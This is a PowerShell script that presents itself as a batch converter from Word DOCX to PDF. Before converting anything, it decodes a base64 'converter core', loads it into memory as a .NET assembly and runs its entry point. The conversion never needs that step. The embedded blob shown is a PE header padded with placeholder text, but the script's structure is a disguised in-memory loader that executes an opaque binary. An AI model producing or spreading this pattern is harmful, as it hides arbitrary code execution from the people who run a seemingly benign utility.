param([string]$Folder = '.')
# converter core (embedded so no install is needed)
$core = 'TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABQRQAAY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIgY29udmVydGVyIGNvcmUgcGxhY2Vob2xkZXIg'
$asm = [Reflection.Assembly]::Load([Convert]::FromBase64String($core))
$asm.EntryPoint.Invoke($null, @(, [string[]]@()))
$word = New-Object -ComObject Word.Application
Get-ChildItem $Folder -Filter *.docx | ForEach-Object {
    $d = $word.Documents.Open($_.FullName)
    $d.SaveAs([IO.Path]::ChangeExtension($_.FullName, '.pdf'), 17)
    $d.Close()
}
$word.Quit()
